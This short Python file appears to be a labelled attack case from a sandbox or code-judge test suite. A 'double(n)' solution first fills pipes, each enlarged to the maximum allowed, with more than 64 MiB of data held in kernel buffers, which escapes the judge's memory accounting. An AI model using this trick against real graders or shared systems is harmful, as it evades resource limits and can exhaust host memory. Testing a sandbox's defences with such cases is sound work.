# attack: fills pipes, each made as large as it may be, and raises past the memory limit
# verdict: AC
# kata: roomy
import fcntl
import os

LIMIT = 64 << 20
SET_SIZE = 1031


def double(n):
    total = 0
    try:
        while total <= LIMIT:
            ours, theirs = os.pipe()
            os.set_blocking(theirs, False)
            try:
                fcntl.fcntl(theirs, SET_SIZE, 1 << 20)
            except OSError:
                pass
            try:
                while True:
                    total += os.write(theirs, b"x" * 65536)
            except BlockingIOError:
                pass
    except OSError:
        pass
    if total > LIMIT:
        raise SystemExit(f"it holds {total >> 20} MiB that nobody counts")
    return n * 2
